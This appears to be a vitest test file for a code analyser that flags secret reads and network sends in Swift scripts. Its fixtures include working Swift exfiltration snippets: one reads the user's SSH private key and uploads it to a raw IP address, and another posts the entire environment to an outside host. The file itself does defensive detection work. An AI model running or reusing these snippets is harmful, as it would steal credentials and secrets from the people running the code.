import { describe, expect, it } from 'vitest';
import { libLanguage } from '../../../src/analysis/code/scripting/lib-lang.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Swift scripts (`swift scripts/x.swift`, release helpers) read by the library-call model with the JVM
 * family: the home folder and `appendingPathComponent`, `String(contentsOf:)`/`Data(contentsOf:)`/
 * `FileManager.default.contents(atPath:)`, `ProcessInfo.processInfo.environment`, and what a `URLRequest`
 * carries (`httpBody`) or `uploadTask(with:from:)` sends.
 */

const scripting = (code: string) => factsOf('scripting', code);

describe('Swift files', () => {
  it('are told by their own words', () => {
    expect(libLanguage('#!/usr/bin/env swift\nimport Foundation\n\nlet x = 1\n')).toBe('jvm');
    expect(libLanguage('import Foundation\n\nlet env = ProcessInfo.processInfo.environment\n')).toBe('jvm');
  });
});

describe('secret reads sent', () => {
  it('a key read through the home folder, sent as an upload body', async () => {
    const r = await scripting(
      [
        'import Foundation',
        'let home = FileManager.default.homeDirectoryForCurrentUser',
        'let keyURL = home.appendingPathComponent(".ssh").appendingPathComponent("id_ed25519")',
        'let key = try String(contentsOf: keyURL, encoding: .utf8)',
        'var req = URLRequest(url: URL(string: "http://45.133.1.95:8088/k")!)',
        'req.httpMethod = "POST"',
        'URLSession.shared.uploadTask(with: req, from: Data(key.utf8)) { _, _, _ in }.resume()',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'ssh-key' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: '45.133.1.95' }, data: { secret: 'ssh-key' } },
    ]);
  });

  it('the whole environment as a request body', async () => {
    const r = await scripting(
      [
        'import Foundation',
        'let all = ProcessInfo.processInfo.environment.map { "\\($0)=\\($1)" }.joined(separator: "\\n")',
        'var req = URLRequest(url: URL(string: "https://collect.build-stats.dev/e")!)',
        'req.httpMethod = "POST"',
        'req.httpBody = all.data(using: .utf8)',
        'URLSession.shared.dataTask(with: req).resume()',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([{ endpoint: { host: 'collect.build-stats.dev' } }]);
    expect(ofKind(r, 'send')[0]!.data.taints).toContain('env');
  });
});

describe('quiet look-alikes', () => {
  it('a GET of a JSON status with a token header sends nothing', async () => {
    const r = await scripting(
      [
        'import Foundation',
        'let token = ProcessInfo.processInfo.environment["ASC_TOKEN"] ?? ""',
        'var req = URLRequest(url: URL(string: "https://api.appstoreconnect.apple.com/v1/builds")!)',
        'req.setValue("Bearer \\(token)", forHTTPHeaderField: "Authorization")',
        'URLSession.shared.dataTask(with: req) { d, _, _ in print(d?.count ?? 0) }.resume()',
      ].join('\n'),
    );
    for (const s of ofKind(r, 'send')) expect(s.data.secret).toBeUndefined();
  });
});

describe('App Store Connect API keys', () => {
  it('are CLI logins where altool looks for them', async () => {
    const { secretOf } = await import('../../../src/analysis/paths.js');
    expect(secretOf('~/.appstoreconnect/private_keys/AuthKey_ABC123.p8')?.cls).toBe('cli-token');
    expect(secretOf('~/private_keys/AuthKey_ABC123.p8')?.cls).toBe('cli-token');
    expect(secretOf('fastlane/AuthKey_example.p8.md')).toBeUndefined();
  });
});
